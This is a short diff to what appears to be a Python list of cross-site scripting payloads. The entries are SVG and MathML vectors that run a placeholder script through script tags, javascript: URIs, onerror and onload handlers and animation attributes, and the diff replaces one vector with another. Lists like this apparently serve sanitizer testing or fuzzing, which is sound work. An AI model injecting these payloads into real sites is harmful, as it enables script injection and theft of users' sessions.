@@ -45,7 +45,7 @@ TAGS = [
     f"<svg><script>{RUN}</script></svg>",
     f"<svg><script href='data:text/javascript,{RUN}'/></svg>",
     f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
-    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
+    f"<svg><animate href=#x attributeName=href values='javascript:{RUN}'/><a id=x>x</a></svg>",
     f"<svg><set attributeName=onmouseover to='{RUN}'/></svg>",
     f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}></svg>#x'/></svg>",
     f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
